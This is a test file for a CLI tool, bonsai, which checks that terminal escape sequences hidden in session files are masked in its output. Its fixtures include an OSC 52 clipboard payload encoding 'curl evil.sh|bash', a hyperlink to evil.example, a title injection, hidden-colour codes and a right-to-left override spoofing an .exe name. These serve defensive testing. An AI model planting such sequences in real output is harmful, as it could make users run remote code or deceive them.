/**
 * Issue 26, defect 6: terminal control sequences from sessions (a clipboard write through OSC 52,
 * a window title, a hyperlink, a carriage return that overwrites the line, a color that hides the
 * rest, a bidirectional override) must not reach the user's terminal through info, tree, context,
 * label, a debug stack trace or the chat's tree; bonsai's own colors still do.
 */
import assert from "node:assert/strict";
import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { after, describe, it } from "node:test";
import { formatTreeRow } from "../../src/chat/tree-view.js";
import { terminalSafe, untrusted } from "../../src/util/terminal-safe.js";
import { runBonsai } from "../helpers/cli.js";
import { assistantEntry, entry, tempDir, userEntry } from "../helpers/session-builders.js";

const temp = tempDir();
after(temp.cleanup);

const OSC52 = "\u001b]52;c;Y3VybCBldmlsLnNofGJhc2g=\u0007";
const TITLE = "\u001b]0;pwned\u001b\\";
const LINK = "\u001b]8;;https://evil.example\u0007click\u001b]8;;\u0007";
const HIDE = "\u001b[8m\u001b[30;40m";
const REVERSED = "\u202egnp.exe";
const HOSTILE = `look ${OSC52}${TITLE}${LINK} here\rOVERWRITE\u0008\u009b2J${HIDE}${REVERSED}`;
/** Any control character but newline and tab, or a bidirectional override or isolate. */
const UNSAFE = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

describe("terminalSafe", () => {
  it("masks every control but newline and tab, and keeps bonsai's own colors", () => {
    assert.equal(terminalSafe("a\tb\nc"), "a\tb\nc");
    const own = "\u001b[1mbold\u001b[22m \u001b[32mgreen\u001b[39m \u001b[2mdim\u001b[22m";
    assert.equal(terminalSafe(own), own);
    const safe = terminalSafe(HOSTILE);
    assert.doesNotMatch(safe, UNSAFE);
    assert.match(safe, /^look \?\]52;c;Y3VybCBldmlsLnNofGJhc2g=\?/);
  });

  it("masks colors bonsai never draws with: hidden text, backgrounds, black, 256 colors", () => {
    for (const code of ["\u001b[8m", "\u001b[30;40m", "\u001b[30m", "\u001b[47m", "\u001b[38;5;2m", "\u001b[5m"]) assert.doesNotMatch(terminalSafe(`x${code}y`), UNSAFE, JSON.stringify(code));
  });

  it("keeps no escape at all when colors are off, and none in untrusted text: colors dropped, the rest masked", () => {
    assert.equal(terminalSafe("\u001b[1mbold\u001b[22m", false), "bold");
    assert.equal(untrusted("\u001b[32mgreen\u001b[39m \u202eabc \u001b]0;t\u0007"), "green ?abc ?]0;t?");
  });

  it("the chat's tree rows carry no control sequence from the session", () => {
    const row = formatTreeRow({ id: "u1", depth: 0, prefix: "", kind: `user${HIDE}`, text: HOSTILE, label: `pin ${OSC52}`, isLeaf: true, onPath: true }, 200);
    assert.doesNotMatch(row, UNSAFE, JSON.stringify(row));
    assert.match(row, /^user: /, "the hiding color is dropped from the kind");
  });
});

describe("bonsai on a session written to drive the terminal", () => {
  const file = join(temp.dir, "hostile.jsonl");
  writeFileSync(
    file,
    `${[
      { type: "session", version: 3, id: "hostile", timestamp: "2026-01-01T00:00:00.000Z", cwd: "/tmp" },
      // what hides or reverses comes first, where a clipped preview still shows it
      userEntry("u1", null, `${HIDE}${REVERSED} ${HOSTILE}`),
      assistantEntry("a1", "u1", `${HIDE}answer ${OSC52}`),
      entry("session_info", "n1", "a1", { name: `${REVERSED} name ${HIDE}${TITLE}` }),
    ]
      .map((l) => JSON.stringify(l))
      .join("\n")}\n`,
  );
  for (const args of [["info", file], ["tree", file], ["context", file, "--full"], ["label", file, "u1", `label ${HIDE}${REVERSED}${OSC52}`]]) {
    it(`${args[0]} prints no control sequence`, async () => {
      const run = await runBonsai(args);
      assert.equal(run.code, 0, run.stderr);
      assert.doesNotMatch(run.stdout, UNSAFE, JSON.stringify(run.stdout));
      assert.doesNotMatch(run.stderr, UNSAFE);
    });
  }

  it("with colors on, prints bonsai's colors and none of the session's, and ends them on the line", async () => {
    const run = await runBonsai(["tree", file], { NO_COLOR: "", FORCE_COLOR: "1" });
    assert.equal(run.code, 0, run.stderr);
    assert.match(run.stdout, /\u001b\[3[1-6]m/, "bonsai's colors are drawn");
    assert.doesNotMatch(run.stdout.replace(/\u001b\[[0-9]+m/g, ""), UNSAFE, JSON.stringify(run.stdout));
    assert.doesNotMatch(run.stdout, /\u001b\[(?:8|30;40)m/);
    assert.ok(run.stdout.endsWith("\u001b[0m\n"), "a color opened by the session stops at the end of the output");
  });

  it("a debug stack trace quoting the file is masked too", async () => {
    const bad = join(temp.dir, "bad-first-line.jsonl");
    writeFileSync(bad, `${OSC52}\u001b[2J\n`);
    const run = await runBonsai(["info", bad], { BONSAI_DEBUG: "1" });
    assert.notEqual(run.code, 0);
    assert.doesNotMatch(run.stderr, UNSAFE, JSON.stringify(run.stderr));
  });
});
